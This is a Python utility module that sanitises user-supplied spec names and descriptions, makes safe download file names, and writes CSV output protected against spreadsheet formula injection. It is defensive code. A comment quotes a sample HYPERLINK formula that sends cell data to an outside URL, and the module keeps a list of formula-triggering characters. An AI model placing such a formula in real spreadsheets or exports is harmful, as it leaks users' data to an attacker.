"""User text as data: which characters a spec's name and description may hold, file names made from them,
and CSV files that a spreadsheet opens without running anything.

A spec's name and description travel to places that give some characters a meaning: a
generated script's comments (where a line break ends the comment), a terminal (escape
sequences), a download's file name (path separators), UTF-8 files, pages and URLs (which
cannot hold a lone surrogate), and a spreadsheet, which runs a CSV cell that starts with '='
as a formula. This module says which characters are refused at the spec boundary, turns text
into a file name that is only ever a name, and writes every CSV the app and the CLI give out
(`csv_text`). Plain Python (pandas only inside `csv_text`): no TensorFlow, no Streamlit.
"""

from __future__ import annotations

import re
import unicodedata
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

# Refused everywhere: C0 and C1 control characters (NUL, ESC for terminal escape sequences,
# CR, form feed, U+0085, ...), the Unicode line and paragraph separators, and lone surrogates,
# which no UTF-8 file, page or URL can hold (they made encoding fail deep inside Streamlit).
# A description may still break lines with "\n" and hold tabs.
NOT_IN_A_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]")
_FORBIDDEN_IN_TEXT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]")

# Every line break that some reader acts on: Python's tokenizer ends a comment only at \n and
# \r, but str.splitlines(), editors and CSV readers also break at these.
LINE_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"

MAX_FILE_STEM = 64  # characters of user text kept in a file name
# Names Windows reserves for devices, with any extension.
_WINDOWS_DEVICES = frozenset({"CON", "PRN", "AUX", "NUL"} | {f"{d}{i}" for d in ("COM", "LPT") for i in range(10)})
_SUFFIX = re.compile(r"^[A-Za-z0-9._-]*$")


# Between the numbers of a shape as people type it: commas, spaces, brackets, 'x' or '×' ("28x28x3").
_SHAPE_SEPARATORS = re.compile(r"[\s,x×\[\]()]+")
_WHOLE_NUMBER = re.compile(r"-?\d{1,9}")


def parse_ints(text: str) -> list[int] | None:
    """Whole numbers as people type a shape: '10, 5', '[10, 5]', '(10, 5)' or '28x28x3'.

    A minus sign is read (the spec's own check then says why a dimension must be >= 1). Anything
    else, or a number of more than 9 digits, is not a shape.

    Returns:
        The numbers, or None if `text` is not whole numbers.

    Example:
        >>> parse_ints("28x28x3"), parse_ints("[10, 5]"), parse_ints("ten")
        ([28, 28, 3], [10, 5], None)
    """
    parts = [p for p in _SHAPE_SEPARATORS.split(text.strip()) if p]
    if parts and all(_WHOLE_NUMBER.fullmatch(p) for p in parts):
        return [int(p) for p in parts]
    return None


def forbidden_character(text: str, *, multiline: bool = False) -> tuple[int, str] | None:
    """The first character that `text` may not hold, as (position, why), or None.

    Args:
        text: a spec name (one line) or description.
        multiline: allow "\\n" and "\\t" (a description); a name allows neither.

    Returns:
        None if every character is allowed; else the position of the first one refused and
        a short reason naming it, e.g. ``(3, "the lone surrogate U+D800")``.
    """
    found = (_FORBIDDEN_IN_TEXT if multiline else NOT_IN_A_LINE).search(text)
    if found is None:
        return None
    code = ord(found.group())
    if 0xD800 <= code <= 0xDFFF:
        kind = "lone surrogate"
    elif code in (0x2028, 0x2029):
        kind = "separator"
    else:
        kind = "control character"
    return found.start(), f"the {kind} U+{code:04X}"


def safe_file_name(stem: str, suffix: str = "", default: str = "spec") -> str:
    """A download file name made from user text: `stem` cleaned, then `suffix`.

    Keeps ASCII letters, digits, '.', '_' and '-' (accented letters lose their accents),
    turns every other run of characters into one '_', cuts the stem to `MAX_FILE_STEM`
    characters and never yields an empty name, a name that starts with a dot or a '-', a
    path, or a Windows device name (CON, NUL, COM1, ...).

    Args:
        stem: user text, e.g. a spec's name.
        suffix: the app's own ending, e.g. ``"_history.csv"``; only [A-Za-z0-9._-].
        default: the stem used when nothing of `stem` is left.

    Returns:
        For example ``safe_file_name("../My spec: v2", ".json") == "My_spec_v2.json"``.

    Raises:
        ValueError: if `suffix` holds other characters (it is code's text, not the user's).
    """
    if not _SUFFIX.fullmatch(suffix):
        raise ValueError(f"suffix: must use only letters, digits, '.', '_' and '-'. Received: {suffix!r}")
    # NFKD splits 'é' into 'e' and a combining accent, so the ASCII filter keeps the 'e'.
    ascii_text = unicodedata.normalize("NFKD", stem).encode("ascii", "ignore").decode("ascii")
    cleaned = re.sub(r"[^A-Za-z0-9._-]+", "_", ascii_text)
    cleaned = re.sub(r"\.{2,}", ".", cleaned)  # no '..' anywhere, so nothing reads as a parent folder
    cleaned = cleaned[:MAX_FILE_STEM].strip("._-")  # no hidden file, no option-like '-x', no trailing dot
    if not cleaned:
        cleaned = default
    if cleaned.split(".")[0].upper() in _WINDOWS_DEVICES:
        cleaned = f"{default}_{cleaned}"
    return cleaned + suffix


# The first characters that make Excel, LibreOffice or Google Sheets read a CSV cell as a formula
# (OWASP, "CSV Injection"): '=HYPERLINK("http://...?x="&A1, "details")' sends the sheet's cells away.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: Any) -> Any:
    """A CSV cell that a spreadsheet shows as text: text starting with a formula character gets a leading "'".

    Anything that is not text (a number, a negative one too, NaN, None) comes back unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(frame: pd.DataFrame) -> str:
    """`frame` as CSV text (no index) in which no cell is a live spreadsheet formula.

    Text cells and column names that start with '=', '+', '-', '@', a tab or a carriage return are
    prefixed with a single quote, as OWASP advises, so a spreadsheet shows them as written; numeric
    and boolean columns are written as numbers, negative ones included. A carriage return inside a
    cell is quoted with it (the file's lines then end in "\\r\\n"). Every CSV that sharecore gives
    out (downloads, the CLI's files) is written by this function.

    Args:
        frame: any table, e.g. a run's history or `sharecore.runs.compare.curves`.

    Returns:
        The CSV text, as `DataFrame.to_csv(index=False)` writes it.

    Example:
        >>> import pandas as pd
        >>> print(csv_text(pd.DataFrame({"run": ["=1+1", "lr -1"], "loss": [-0.5, 2.0]})), end="")
        run,loss
        '=1+1,-0.5
        lr -1,2.0
    """
    from pandas.api.types import is_bool_dtype, is_numeric_dtype

    safe = frame.copy(deep=False)
    carriage_return = any(isinstance(column, str) and "\r" in column for column in frame.columns)
    for i in range(frame.shape[1]):  # by position: column names need not be unique
        values = frame.iloc[:, i]
        if not (is_numeric_dtype(values) or is_bool_dtype(values)):
            # Categories and pandas' string dtype too: as objects, so a prefixed value needs no new category.
            values = values.astype(object)
            safe.isetitem(i, values.map(spreadsheet_text))
            carriage_return = carriage_return or any(isinstance(v, str) and "\r" in v for v in values)
    safe.columns = [spreadsheet_text(column) for column in frame.columns]
    # Python's csv writer quotes a cell that holds a line break only if the break is in its line terminator. A
    # spreadsheet ends a row at a lone "\r" too, and the rest of the cell would start a cell of its own: with
    # "\r\n" (RFC 4180's own) such cells are quoted. Other files keep "\n".
    return safe.to_csv(index=False, lineterminator="\r\n" if carriage_return else "\n")
